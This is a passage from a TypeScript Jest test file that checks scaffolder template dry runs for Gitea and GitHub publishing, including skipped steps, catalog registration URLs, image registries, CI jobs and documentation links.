      expect(dryRunInputs(result.body, 'publish:github')).toEqual([]);
      const log = logOf(result.body);
      expect(log).toContainEqual(
        expect.stringContaining(
          'Dry run: skipped the Gitea API checks (server, token, organisation, rights, existing repository); nothing was sent to Gitea.',
        ),
      );
      // publish:gitea has no dry-run mode: the scaffolder skips it, so nothing is pushed.
      expect(log).toContain(
        'Skipping because publish:gitea does not support dry-run',
      );
      expect(log).toContain(
        'Skipping step publish-github because its if condition was false',
      );
      // The skipped publish:gitea's stand-in output, joined the Gitea way (its
      // repoContentsUrl ends in "/"): its branch was taken, not GitHub's.
      const [register] = dryRunInputs(result.body, 'catalog:register');
      expect(register.catalogInfoUrl).toMatch(/^<example>catalog-info\.yaml$/);
      expect(dryRunInputs(result.body, ROLLBACK)).toEqual([]);
    },
  );

  it.each(templateNames)(
    '%s: a github.com example publishes to GitHub; its dry run sends nothing to GitHub',
    async template => {
      const testCase = githubExample(template);
      const result = await scaffolder.dryRun(
        testCase.templateEntity,
        testCase.values,
      );
      expect(result.status).toBe(200);
      const [preflight] = dryRunInputs(result.body, PREFLIGHT);
      const [publish] = dryRunInputs(result.body, 'publish:github');
      expect(preflight).toEqual({
        repoUrl: publish.repoUrl,
        repoVisibility: publish.repoVisibility,
      });
      expect(dryRunInputs(result.body, 'publish:gitea')).toEqual([]);
      const log = logOf(result.body);
      expect(log).toContainEqual(
        expect.stringContaining(
          'Dry run: skipped the GitHub API checks (token, rights on the owner, existing repository); nothing was sent to GitHub.',
        ),
      );
      expect(log).toContain(
        'Skipping step publish-gitea because its if condition was false',
      );
      // publish:github's dry-run output, joined the GitHub way ("/"): its branch was taken.
      const [register] = dryRunInputs(result.body, 'catalog:register');
      expect(register.catalogInfoUrl).toBe('<example>/catalog-info.yaml');
      // No step failed, so the rollback did not run.
      expect(dryRunInputs(result.body, ROLLBACK)).toEqual([]);
    },
  );

  describe.each(templateNames)(
    '%s: what the repository says about where it lives',
    template => {
      const render = async (testCase: TemplateCase) => {
        const result = await scaffolder.dryRun(
          testCase.templateEntity,
          testCase.values,
        );
        expect(result.status).toBe(200);
        const read = (file: string) => result.files.get(file)!.toString('utf8');
        const images = [...result.files.keys()]
          .filter(f => /^k8s\/.*\.ya?ml$/.test(f))
          .flatMap(f => objectsOf(result.files.get(f)!))
          .flatMap((o: any) => o?.spec?.template?.spec?.containers ?? [])
          .map((c: any) => String(c.image))
          .filter(image => !image.startsWith('postgres:'));
        return {
          files: result.files,
          images,
          catalogInfo: objectsOf(result.files.get('catalog-info.yaml')!)[0],
          mkdocs: yaml.parse(read('mkdocs.yml')),
          workflow: yaml.parse(read('.github/workflows/ci.yaml')),
          development: read('docs/development.md'),
        };
      };
      const ownerRepo = (testCase: TemplateCase) => {
        const params = new URLSearchParams(
          String(testCase.values.repoUrl).split('?')[1],
        );
        return [params.get('owner')!, params.get('repo')!];
      };

      it('on the local Git server: local images, no GitHub slug, no image job, its own page', async () => {
        const testCase = typicalExample(template);
        const [, name] = ownerRepo(testCase);
        const out = await render(testCase);
        expect(out.images.length).toBeGreaterThan(0);
        expect(out.images.filter(i => !i.startsWith('localhost/'))).toEqual([]);
        expect(out.workflow.env.IMAGE_REGISTRY).toBe('localhost');
        expect(out.workflow.jobs.image).toBeUndefined();
        expect(
          out.catalogInfo.metadata.annotations['github.com/project-slug'],
        ).toBeUndefined();
        expect(out.catalogInfo.metadata.links).toBeUndefined();
        expect(out.mkdocs.repo_url).toBe(
          `http://${LOCAL_GITEA_HOST}/golden-path/${name}`,
        );
        expect(out.development).toMatch(
          /has\s+no CI runner and no container registry/,
        );
        expect(out.development).not.toMatch(/ghcr\.io/);
        expect(imageTagProblems(out.files)).toEqual([]);
      });

      it('on GitHub: GHCR images of the owner, the project slug, the image job', async () => {
        const testCase = githubExample(template);
        const [ownerName, name] = ownerRepo(testCase);
        const out = await render(testCase);
        const registry = `ghcr.io/${ownerName.toLowerCase()}`;
        expect(out.images.length).toBeGreaterThan(0);
        expect(out.images.filter(i => !i.startsWith(`${registry}/`))).toEqual(
          [],
        );
        expect(out.workflow.env.IMAGE_REGISTRY).toBe(registry);
        expect(out.workflow.jobs.image).toBeDefined();
        expect(
          out.catalogInfo.metadata.annotations['github.com/project-slug'],
        ).toBe(`${ownerName}/${name}`);
        expect(out.catalogInfo.metadata.links).toEqual([
          expect.objectContaining({
            url: `https://github.com/${ownerName}/${name}/actions`,
          }),
        ]);
        expect(out.mkdocs.repo_url).toBe(
          `https://github.com/${ownerName}/${name}`,
        );
        expect(out.development).not.toMatch(/no CI runner/);
        expect(imageTagProblems(out.files)).toEqual([]);
      });
    },
  );
});
